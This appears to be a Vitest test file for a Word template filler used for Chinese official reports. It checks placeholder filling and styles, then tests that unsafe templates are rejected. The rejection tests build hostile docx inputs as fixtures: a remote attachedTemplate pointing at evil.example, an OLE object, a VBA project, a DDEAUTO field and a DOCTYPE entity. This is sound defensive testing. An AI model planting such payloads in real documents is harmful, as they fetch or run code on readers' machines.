import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Document, Footer, Header, Packer, Paragraph, TextRun } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError } from '#core/error/app-error.ts';
import { exampleReport, EXAMPLE_OUTLINE } from '#core/report/example-report.ts';
import type { PrintedReport } from '#core/report/printed.ts';
import { elementsNamed, parseXml, textOf, type XmlElement } from '../../../../e2e/xml.ts';
import { loadWordProfile } from './profile.ts';
import { chartPictures } from './chart-picture.ts';
import { sealWord } from './seal.ts';
import { readTemplate, type Template } from './template-check.ts';
import { fillTemplate } from './template.ts';

const PROFILES = join(import.meta.dirname, '../../../../assets/profiles');
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'juanzong-template-'));
});
afterAll(async () => rm(folder, { recursive: true, force: true }));

/** A template as an office may have it: own styles, head and foot, placeholders cut into runs. */
async function officeTemplate(body = '{{body}}'): Promise<Uint8Array> {
  const line = (text: string, style?: string): Paragraph =>
    new Paragraph({ ...(style === undefined ? {} : { style }), children: [new TextRun(text)] });
  const document = new Document({
    styles: {
      default: { heading1: { run: { size: 40, color: '123456' } } },
      paragraphStyles: [
        { id: 'Zheng', name: '本局正文', basedOn: 'Normal', run: { size: 30, font: '仿宋' } },
      ],
    },
    sections: [
      {
        properties: { page: { margin: { left: 1000, right: 1000, top: 1400, bottom: 1400 } } },
        headers: { default: new Header({ children: [line('{{issuer}}内部资料')] }) },
        footers: { default: new Footer({ children: [line('{{ date }}')] }) },
        children: [
          new Paragraph({
            children: [
              new TextRun({ text: '{{ti', bold: true }),
              new TextRun({ text: 'tle}}', bold: true }),
            ],
          }),
          line('{{subtitle}}'),
          line(body, 'Zheng'),
          line('{{attachments}}', 'Zheng'),
          line('局办公室 {{unknown}}'),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(document));
}

async function read(bytes: Uint8Array, name = 'office.docx'): Promise<Template> {
  const file = join(folder, name);
  await writeFile(file, bytes);
  return readTemplate(file);
}

function report(sourceNotes: 'line' | 'footnote' = 'line'): PrintedReport {
  const made = exampleReport('gbt9704', [{ kind: 'contents', depth: 2 }, ...EXAMPLE_OUTLINE]);
  return {
    ...made,
    title: '东川做法汇编',
    front: {
      ...made.front,
      issuer: '东川县委宣传部',
      date: '2026-09-01',
      attachments: ['举措清单', '数据台账'],
      sourceNotes,
      charts: 'native',
    },
  };
}

interface Filled {
  readonly parts: ReadonlyMap<string, string>;
  readonly document: XmlElement;
  readonly said: readonly string[];
  readonly warnings: readonly unknown[];
}

async function filled(printed: PrintedReport): Promise<Filled> {
  const profile = await loadWordProfile(PROFILES, 'gbt9704');
  const template = await read(await officeTemplate());
  const { bytes, warnings } = await fillTemplate(
    template,
    printed,
    { profile, author: '甲' },
    await chartPictures(printed),
  );
  const sealed = sealWord(bytes, printed, { masked: false });
  const parts = new Map(
    Object.entries(unzipSync(sealed)).map(([name, data]) => [name, strFromU8(data)]),
  );
  for (const [name, xml] of parts) if (name.endsWith('.xml')) parseXml(xml);
  const document = parseXml(parts.get('word/document.xml') ?? '');
  return { parts, document, said: elementsNamed(document, 'w:p').map(textOf), warnings };
}

function stylesOf({ document }: Filled, text: string): readonly string[] {
  return elementsNamed(document, 'w:p')
    .filter((paragraph) => textOf(paragraph) === text)
    .map((paragraph) => elementsNamed(paragraph, 'w:pStyle')[0]?.attributes.get('w:val') ?? '');
}

describe('a report in a template of the office', () => {
  it('puts words where their placeholders stand, in head and foot as well', async () => {
    const made = await filled(report());
    expect(made.said[0]).toBe('东川做法汇编');
    expect(made.parts.get('word/header1.xml')).toContain('东川县委宣传部');
    expect(textOf(parseXml(made.parts.get('word/footer1.xml') ?? ''))).toBe('2026年9月1日');
    expect(made.said.join('\n')).not.toMatch(/\{\{(?!unknown)/u);
    expect(made.said).toContain('局办公室 {{unknown}}');
    expect(made.warnings).toEqual([{ code: 'W-PLACEHOLDER', values: { names: 'unknown' } }]);
  });

  it('sets headings and text in the styles of the office and adds those that it lacks', async () => {
    const made = await filled(report());
    expect(stylesOf(made, '一、产业')).toEqual(['Heading1']);
    const [quotation] = report().parts.filter((part) => part.kind === 'quotation');
    expect(stylesOf(made, quotation?.text ?? '')).toEqual(['Zheng']);
    const styles = parseXml(made.parts.get('word/styles.xml') ?? '');
    const ids = elementsNamed(styles, 'w:style').map((one) => one.attributes.get('w:styleId'));
    expect(new Set(ids).size).toBe(ids.length);
    for (const style of ['Juanzong-sourceLine', 'Juanzong-table', 'TOC1', 'Zheng']) {
      expect(ids).toContain(style);
    }
    // The look of the office is not touched.
    expect(made.parts.get('word/styles.xml')).toContain('123456');
    const runs = elementsNamed(made.document, 'w:r').filter(
      (run) => textOf(run) === quotation?.text,
    );
    const fonts = runs.flatMap((run) => elementsNamed(run, 'w:rFonts'));
    expect(fonts.map((one) => one.attributes.get('w:eastAsia'))).toEqual([undefined]);
  });

  it('fills in contents, attachments and footnotes', async () => {
    const made = await filled(report('footnote'));
    const links = elementsNamed(made.document, 'w:hyperlink').map(textOf);
    expect(links.length).toBeGreaterThan(4);
    for (const link of links) expect(link).toMatch(/[1-9]\d*$/u);
    expect(made.said).toContain('附件：1. 举措清单');
    const notes = elementsNamed(parseXml(made.parts.get('word/footnotes.xml') ?? ''), 'w:footnote');
    expect(notes.map(textOf).join('\n')).toContain('核验号');
    const relations = [...made.parts].filter(([name]) => name.endsWith('.rels'));
    for (const [, xml] of relations) expect(xml).not.toContain('External');
  });
});

describe('a template is refused', () => {
  const reason = async (bytes: Uint8Array): Promise<string> => {
    try {
      await read(bytes, 'bad.docx');
    } catch (error) {
      if (error instanceof AppError && error.code === 'E-WORDTEMPLATE') {
        return String(error.values['reason']);
      }
      throw error;
    }
    return 'taken';
  };
  const changed = async (change: (parts: Record<string, Uint8Array>) => void): Promise<string> => {
    const parts = unzipSync(await officeTemplate());
    change(parts);
    return reason(zipSync(parts));
  };
  const edit = (
    parts: Record<string, Uint8Array>,
    name: string,
    to: (xml: string) => string,
  ): void => {
    parts[name] = strToU8(to(strFromU8(parts[name] ?? new Uint8Array())));
  };

  it('where it is none', async () => {
    expect(await reason(strToU8('{{body}}'))).toBe('.docx?');
    expect(await reason(zipSync({ 'a.txt': strToU8('{{body}}') }))).toBe('.docx?');
    expect(await reason(await officeTemplate('正文'))).toBe('{{body}}?');
    expect(await reason((await officeTemplate()).subarray(0, 900))).not.toBe('taken');
  });

  it('where it runs, loads or fetches something', async () => {
    const rels = 'word/_rels/document.xml.rels';
    expect(
      await changed((parts) =>
        edit(parts, rels, (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="x" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          ),
        ),
      ),
    ).toBe('http://evil.example/t.dotm');
    expect(
      await changed((parts) =>
        edit(parts, rels, (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="x" Type="http://x/oleObject" Target="embeddings/o.bin"/></Relationships>',
          ),
        ),
      ),
    ).toBe('oleObject');
    expect(
      await changed((parts) =>
        edit(parts, '[Content_Types].xml', (xml) =>
          xml.replace(
            '</Types>',
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          ),
        ),
      ),
    ).toBe('VBA');
    expect(
      await changed((parts) =>
        edit(parts, 'word/document.xml', (xml) =>
          xml.replace(
            '<w:body>',
            '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
          ),
        ),
      ),
    ).toBe('DDEAUTO c:\\x');
  });

  it('where its XML is damaged or declares a document type', async () => {
    expect(
      await changed((parts) =>
        edit(parts, 'word/styles.xml', (xml) => xml.replace('</w:styles>', '')),
      ),
    ).toBe('XML');
    expect(
      await changed((parts) =>
        edit(parts, 'word/document.xml', (xml) =>
          xml.replace('<w:document', '<!DOCTYPE w [<!ENTITY a "b">]><w:document'),
        ),
      ),
    ).toBe('DOCTYPE');
  });
});
